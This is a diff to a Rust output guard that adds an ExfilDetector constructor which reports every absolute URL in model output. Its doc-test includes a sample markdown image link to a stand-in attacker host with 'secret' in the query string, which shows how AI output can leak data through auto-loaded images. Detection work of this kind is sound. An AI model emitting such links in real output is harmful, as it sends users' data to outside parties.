@@ -104,6 +104,24 @@ impl ExfilDetector {
         })
     }
 
+    /// A detector allowing no host: every absolute URL in output is reported (the default
+    /// guard's; scores tell an auto-loaded image or a URL carrying data from a plain link).
+    ///
+    /// ```
+    /// use llmops_core::TextSource;
+    /// use llmops_guard::Detector;
+    /// let d = llmops_guard::output::ExfilDetector::none_allowed();
+    /// let mut found = Vec::new();
+    /// d.scan("![x](https://evil.example/p.png?d=secret)", TextSource::Output, &mut found);
+    /// assert_eq!(found[0].category, "output.exfil_image");
+    /// ```
+    pub fn none_allowed() -> Self {
+        ExfilDetector {
+            allow: Vec::new(),
+            bare_urls: true,
+        }
+    }
+
     /// Whether bare URLs (outside markdown and HTML) are reported (default yes: chat tools
     /// that unfurl links fetch them too).
     #[must_use]
